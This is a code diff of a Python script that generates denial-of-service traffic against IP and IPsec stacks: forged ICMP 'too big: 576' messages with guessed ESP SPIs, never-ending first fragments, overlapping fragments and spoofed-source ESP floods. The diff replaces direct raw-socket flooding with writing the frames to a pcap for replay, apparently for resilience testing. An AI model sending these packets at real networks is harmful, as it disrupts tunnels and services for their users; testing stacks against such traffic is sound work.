@@ -1,16 +1,14 @@
-"""An attacker who sends as fast as it can, for so many seconds; prints how many frames.
+"""What an attacker sends, one round of it, as a capture for blast to repeat.
 
-  flood.py NIC toobig     SRC-MAC DST-MAC FROM HOST PEER SPI SECONDS   ICMP "too big: 576" about ESP from HOST to PEER with guessed numbers
-  flood.py NIC fragments  SRC-MAC DST-MAC FROM HOST SECONDS            first fragments of datagrams that never end
-  flood.py NIC overlap    SRC-MAC DST-MAC FROM HOST SECONDS            fragments that overlap
-  flood.py NIC esp        SRC-MAC DST-MAC FROM HOST SECONDS            the same of ESP, from a source of its own each
+  flood.py FILE.pcap toobig     SRC-MAC DST-MAC FROM HOST PEER SPI   ICMP "too big: 576" about ESP from HOST to PEER with guessed numbers
+  flood.py FILE.pcap fragments  SRC-MAC DST-MAC FROM HOST            first fragments of datagrams that never end
+  flood.py FILE.pcap overlap    SRC-MAC DST-MAC FROM HOST            fragments that overlap
+  flood.py FILE.pcap esp        SRC-MAC DST-MAC FROM HOST            the same of ESP, from a source of its own each
 """
 import ipaddress
 import os
-import socket
 import struct
 import sys
-import time
 
 from frame import checksum, mac
 
@@ -21,7 +19,7 @@ def ip(src, dst, proto, payload, ident=1, frag=0):
     return h[:10] + struct.pack("!H", checksum(h)) + h[12:] + payload
 
 
-def toobig(source, host, peer, spi, guesses=256):
+def toobig(source, host, peer, spi, guesses=4096):
     for _ in range(guesses):
         quoted = struct.pack("!II", int(spi, 0), int.from_bytes(os.urandom(4), "big")) + bytes(20)
         body = struct.pack("!BBHHH", 3, 4, 0, 0, 576) + ip(host, peer, 50, quoted, frag=0x4000)
@@ -45,18 +43,10 @@ def esp(source, host):
         yield ip(str(ipaddress.ip_address(net + i)), host, 50, bytes(1000), ident=i, frag=0x2000)
 
 
-nic, what, src_mac, dst_mac = sys.argv[1:5]
+path, what, src_mac, dst_mac = sys.argv[1:5]
 link = mac(dst_mac) + mac(src_mac) + b"\x08\x00"
-packets = {"toobig": toobig, "fragments": fragments, "overlap": overlap, "esp": esp}[what](*sys.argv[5:-1])
-frames = [link + p for p in packets]
-with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
-    s.bind((nic, 0))
-    end, sent = time.monotonic() + float(sys.argv[-1]), 0
-    while time.monotonic() < end:
-        for f in frames:
-            try:
-                s.send(f)
-                sent += 1
-            except OSError:  # the queue is full
-                time.sleep(0.0005)
-print("sent", sent)
+with open(path, "wb") as f:
+    f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
+    for packet in {"toobig": toobig, "fragments": fragments, "overlap": overlap, "esp": esp}[what](*sys.argv[5:]):
+        frame = link + packet
+        f.write(struct.pack("<IIII", 0, 0, len(frame), len(frame)) + frame)
